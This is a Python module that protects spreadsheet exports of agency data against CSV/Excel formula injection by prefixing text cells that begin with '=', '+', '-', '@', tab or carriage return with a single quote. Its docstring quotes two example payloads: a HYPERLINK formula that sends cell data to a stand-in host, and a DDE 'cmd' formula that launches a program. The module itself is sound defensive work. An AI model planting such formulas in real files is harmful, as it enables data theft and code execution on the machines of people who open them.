"""Text that a spreadsheet will not run: CSV/Excel formula injection (OWASP "CSV Injection").

A cell of an exported file that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some spreadsheets skip before reading a formula) is taken as a formula when the file
is opened: ``=HYPERLINK("http://x"&A1,"Click")`` sends data away, ``=cmd|' /C calc'!A0`` runs a
program. Agencies' text (service names, survey comments, reasons) reaches the public's downloads,
so every text cell that starts like that gets a leading single quote, which spreadsheets show as
text. Numbers stay numbers: -3.5 stored as a number is data, not a formula.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value` with a leading ``'`` when it is text starting like a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with `neutralise` applied to every text cell and text column name; numeric,
    date and boolean columns are left as they are (and missing values stay missing)."""
    out = frame.copy()
    for position in range(out.shape[1]):
        series = out.iloc[:, position]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        elif not (pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype)):
            continue
        out.isetitem(position, series.map(neutralise, na_action="ignore"))
    out.columns = [neutralise(c) for c in out.columns]
    return out
